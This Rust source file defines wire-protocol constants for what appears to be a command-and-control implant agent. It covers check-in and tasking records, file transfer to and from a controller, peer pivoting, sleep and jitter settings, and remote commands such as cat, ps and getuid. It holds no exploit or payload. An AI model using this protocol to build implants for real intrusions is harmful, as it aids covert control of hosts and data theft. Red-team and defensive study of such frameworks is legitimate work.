//! Wire constants shared by the agent and its peers

/// Record kinds: first byte after the session prefix, or first byte of a
/// queued record
pub mod kind {
    /// Ask for new tasks / tasking reply
    pub const GET_TASKING: u8 = 0x00;
    /// Batch of task results / acknowledgement batch
    pub const POST_RESPONSE: u8 = 0x01;
    /// Announce a file about to be streamed to the controller
    pub const DOWNLOAD_INIT: u8 = 0x02;
    /// One chunk of a download
    pub const DOWNLOAD_CONTINUE: u8 = 0x03;
    /// Request one chunk of an upload
    pub const UPLOAD_CHUNKED: u8 = 0x04;
    /// A pivoted peer completed its link handshake
    pub const P2P_CHECKIN: u8 = 0x05;
    /// Opaque bytes from a pivoted peer
    pub const P2P_MSG: u8 = 0x06;
    /// A pivoted peer went away
    pub const P2P_UNLINK: u8 = 0x07;
    /// Session establishment
    pub const CHECKIN: u8 = 0xF1;
}

/// Trailing status byte of a task result record
pub mod status {
    /// Task finished successfully
    pub const COMPLETE: u8 = 0x95;
    /// Intermediate progress, task still running
    pub const PROCESSING: u8 = 0x97;
    /// Task failed; preceded by a numeric error code
    pub const FAILED: u8 = 0x99;
}

/// Per-entry kinds inside an acknowledgement batch
pub mod ack {
    /// Plain acknowledgement, no payload
    pub const NORMAL: u8 = 0x10;
    /// Remote file id assigned to a download
    pub const DOWNLOAD: u8 = 0x11;
    /// One upload chunk
    pub const UPLOAD: u8 = 0x12;
    /// Bytes for a pivoted peer
    pub const DELEGATE: u8 = 0x13;
}

/// Command identifiers carried by task records
pub mod command {
    /// Report endpoint health
    pub const STATUS: u8 = 0x37;
    /// Change the sleep interval and jitter
    pub const SLEEP: u8 = 0x38;
    /// Remove a file or empty directory
    pub const RM: u8 = 0x39;
    /// List a directory
    pub const LS: u8 = 0x41;
    /// Change the working directory
    pub const CD: u8 = 0x42;
    /// Print the working directory
    pub const PWD: u8 = 0x43;
    /// Create a directory
    pub const MKDIR: u8 = 0x44;
    /// Copy a file
    pub const CP: u8 = 0x45;
    /// Print a file
    pub const CAT: u8 = 0x46;
    /// Receive a file from the controller
    pub const UPLOAD: u8 = 0x50;
    /// Send a file to the controller
    pub const DOWNLOAD: u8 = 0x51;
    /// List running processes
    pub const PS: u8 = 0x52;
    /// Report the account the agent runs as
    pub const GETUID: u8 = 0x70;
    /// Stop the agent
    pub const EXIT: u8 = 0x80;
    /// Connect to a peer agent
    pub const LINK: u8 = 0x90;
    /// Drop a peer agent
    pub const UNLINK: u8 = 0x91;
}

/// Default cap on one outbound batch (3 MiB)
pub const MAX_REQUEST_LENGTH: usize = 0x300000;

/// Chunk size for file transfers
pub const CHUNK_SIZE: u32 = 512_000;

/// Width of the link identifier at the front of every peer message
pub const LINK_ID_LEN: usize = 4;
